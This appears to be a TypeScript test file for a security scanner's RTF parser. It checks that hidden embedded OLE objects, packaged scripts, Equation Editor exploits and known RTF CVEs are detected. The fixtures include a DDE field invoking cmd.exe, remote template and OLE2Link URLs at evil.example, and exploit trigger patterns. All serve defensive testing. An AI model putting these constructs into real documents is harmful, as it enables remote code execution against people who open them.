import assert from 'node:assert/strict'
import { Buffer } from 'node:buffer'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { Unscanned } from '../../../src/domain/verdict.ts'
import { rtfOpener } from '../../../src/unpack/documents/rtf.ts'
import { nodeOf, type RecordingRun, recordingRun } from '../recording-run.ts'
import { guidBytes, makeOle } from './make-ole.ts'
import { packageBytes } from './make-package.ts'

async function open(rtf: Buffer | string): Promise<RecordingRun> {
  const run = recordingRun()
  await rtfOpener().open(nodeOf(Buffer.from(rtf as string), { type: 'rtf' }), run)
  return run
}

function found(run: RecordingRun): Record<string, string> {
  return Object.fromEntries(run.findings.map((finding) => [finding.name, finding.risk]))
}

function sized(text: string): Buffer {
  const size = Buffer.alloc(4)
  const bytes = text === '' ? Buffer.alloc(0) : Buffer.from(`${text}\0`, 'latin1')
  size.writeUInt32LE(bytes.length)
  return Buffer.concat([size, bytes])
}

/** An OLE 1 embedded object ([MS-OLEDS] 2.2.5). */
function ole1(className: string, native: Buffer): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(native.length)
  return Buffer.concat([Buffer.from('0105000002000000', 'hex'), sized(className), sized(''), sized(''), size, native])
}

const COMPOUND = makeOle({ Contents: Buffer.from('inner document') })
const WORD = ole1('Word.Document.8', COMPOUND)
const HEX = WORD.toString('hex')

const document = (inside: string) => `{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0\\fcharset0 Arial;}}Hello ${inside}\\par}`
const object = (data: string, words = '\\objemb') =>
  document(`{\\object${words}{\\*\\objclass Word.Document.8}{\\*\\objdata ${data}}{\\result x}}`)

function embedded(run: RecordingRun): boolean {
  return run.members.some((member) => member.bytes.equals(COMPOUND))
}

describe('RTF objects', () => {
  const half = HEX.length / 2
  const cut = (between: string) => HEX.slice(0, half) + between + HEX.slice(half)
  const hidden: readonly { data: string; because: string; quiet?: boolean }[] = [
    { data: HEX, because: 'plainly written', quiet: true },
    { data: HEX.toUpperCase().replace(/.{128}/g, '$&\r\n'), because: 'in lines', quiet: true },
    { data: HEX.split('').join(' \t\r\n'), because: 'with space between all digits', quiet: true },
    { data: cut('{\\*\\rubbish 0123456789abcdef}'), because: 'with a skipped group of digits inside' },
    { data: cut('{{\\pict abcdef}}'), because: 'with a picture inside' },
    { data: cut('\\rubbish123 '), because: 'with a control word inside' },
    { data: cut('\\objdata '), because: 'with objdata twice' },
    { data: HEX.replace(/../g, '{$&}'), because: 'in a group of its own each byte' },
    {
      data: `${HEX.slice(0, 100)}\\bin4 ${WORD.toString('latin1', 50, 54)}${HEX.slice(108)}`,
      because: 'with raw bytes by \\bin',
    },
    {
      data: `${HEX.slice(0, 100)}\\bin0000000000000000004 ${WORD.toString('latin1', 50, 54)}${HEX.slice(108)}`,
      because: '\\bin with zeros',
    },
    { data: `${HEX.slice(0, 100)}\\'${HEX.slice(100, 102)}${HEX.slice(102)}`, because: "with \\' among the digits" },
    { data: `ffff${HEX}`, because: 'with a broken header' },
  ]
  for (const { data, because, quiet } of hidden) {
    it(`are found ${because}`, async () => {
      const run = await open(Buffer.from(object(data), 'latin1'))
      assert.ok(embedded(run), `members: ${run.members.map((member) => `${member.name} ${member.bytes.length}`)}`)
      assert.equal(run.findings.length > 0, quiet !== true, JSON.stringify(run.findings))
    })
  }

  it('are found in a document that ends early', async () => {
    const run = await open(object(HEX).slice(0, -40))
    assert.ok(run.members[0]?.bytes.includes('inner document'))
  })

  it('by Packager give the file by its name', async () => {
    const run = await open(
      object(ole1('Package', packageBytes('run.js', Buffer.from('var x')).subarray(4)).toString('hex')),
    )
    assert.equal(run.members.find((member) => member.name === 'run.js')?.bytes.toString(), 'var x')
    assert.equal(found(run)['Document.EmbeddedProgram'], 'high')
  })

  it('of Equation Editor are an exploit where they load themselves or hold no document', async () => {
    const raw = ole1(
      'eQuatiON.3',
      Buffer.concat([Buffer.alloc(28), Buffer.from([3, 1, 1, 3, 10, 8, 1, 1]), Buffer.alloc(50, 'A')]),
    )
    assert.equal(found(await open(object(raw.toString('hex'))))['Document.Equation'], 'high')
    const honest = ole1('Equation.3', makeOle({ 'Equation Native': Buffer.alloc(40) })).toString('hex')
    assert.deepEqual(found(await open(object(honest))), { 'Document.Equation': 'low' })
    assert.equal(found(await open(object(honest, '\\objemb\\objupdate')))['Document.Equation'], 'high')
  })

  it('that are links tell where they come from', async () => {
    const url = Buffer.from('https://evil.example/a.hta\0', 'utf16le')
    const size = Buffer.alloc(4)
    size.writeUInt32LE(url.length)
    const native = Buffer.concat([
      makeOle({ A: Buffer.from('a') }),
      guidBytes('{79EAC9E0-BAF9-11CE-8C82-00AA004BA90B}'),
      size,
      url,
    ])
    const run = await open(object(ole1('OLE2Link', native).toString('hex'), '\\objautlink\\objupdate'))
    assert.equal(found(run)['Document.RemoteObject'], 'high')
    assert.deepEqual(run.urls, ['https://evil.example/a.hta'])
  })
})

describe('RTF documents', () => {
  const cases: readonly { rtf: string; expected: Record<string, string>; because: string; urls?: string[] }[] = [
    { rtf: document('world'), expected: {}, because: 'plain text' },
    {
      rtf: document('{\\field{\\*\\fldinst {HYPERLINK "https://example.org/"}}{\\fldrslt link}}'),
      expected: {},
      urls: ['https://example.org/'],
      because: 'a hyperlink',
    },
    {
      rtf: document(
        '{\\field{\\*\\fldinst {\\rtlch DDE}{\\b AUTO "c:\\\\\\\\windows\\\\\\\\cmd.exe" "/k calc"}}{\\fldrslt x}}',
      ),
      expected: { 'Document.Dde': 'high' },
      because: 'a DDE field in pieces',
    },
    {
      rtf: document('{\\*\\template http://evil.example/t.dotm}'),
      expected: { 'Document.RemoteTemplate': 'high' },
      urls: ['http://evil.example/t.dotm'],
      because: 'a remote template',
    },
    {
      rtf: document(`{\\*\\template ${[...'http://evil.example/u'].map((c) => `\\u${c.charCodeAt(0)}?`).join('')}}`),
      expected: { 'Document.RemoteTemplate': 'high' },
      urls: ['http://evil.example/u'],
      because: 'a remote template in Unicode escapes',
    },
    { rtf: document('{\\*\\template C:\\\\Normal.dotm}'), expected: {}, because: 'a template of its own machine' },
    {
      rtf: document('{\\*\\listoverridetable{\\listoverride\\listoverridecount25}}'),
      expected: { 'Exploit.Rtf': 'high' },
      because: 'CVE-2014-1761',
    },
    {
      rtf: document(`{\\shp{\\*\\shpinst{\\sp{\\sn pFragments}{\\sv 1;1;${'0'.repeat(80)}}}}}`),
      expected: { 'Exploit.Rtf': 'high' },
      because: 'CVE-2010-3333',
    },
  ]
  for (const { rtf, expected, because, urls } of cases) {
    it(`say ${JSON.stringify(expected)} of ${because}`, async () => {
      const run = await open(rtf)
      assert.deepEqual(found(run), expected)
      assert.deepEqual(run.urls, urls ?? [])
    })
  }

  it('hand over pictures and what stands behind the end', async () => {
    const run = await open(`${document('{\\pict\\pngblip 89504e47}')}\r\nMZ hidden`)
    assert.deepEqual(
      run.members.map((member) => [member.name, member.bytes.toString('latin1')]),
      [
        ['picture-1', '\x89PNG'],
        ['(appended data)', '\r\nMZ hidden'],
      ],
    )
    assert.deepEqual((await open(`${document('x')}\r\n\0`)).members, [])
  })

  it('that nest too deep are called so, and end', async () => {
    const run = await open(`{\\rtf1 ${'{'.repeat(20_000)}`)
    assert.equal(run.faults[0]?.reason, 'too-deep')
  })

  it('take any bytes', async () => {
    const good = Buffer.from(object(`${HEX.slice(0, 400)}{\\*\\a 12}\\bin3 abc`, '\\objemb\\objupdate'), 'latin1')
    const words = [
      '{',
      '}',
      '\\',
      '\\bin9 ',
      '\\objdata ',
      '\\*',
      "\\'4",
      '\\u',
      '0',
      'd0cf11e0',
      '{\\object',
      '\\fldinst ',
      '\\pict ',
    ]
    const tokens = fc.array(fc.constantFrom(...words), { maxLength: 60 })
    const property = fc.asyncProperty(tokens, fc.nat(good.length), async (inserted, at) => {
      const bytes = Buffer.concat([good.subarray(0, at), Buffer.from(inserted.join('')), good.subarray(at)])
      await open(bytes).catch((error) => assert.ok(error instanceof Unscanned, String(error)))
    })
    await fc.assert(property, { numRuns: 400 })
  })
})
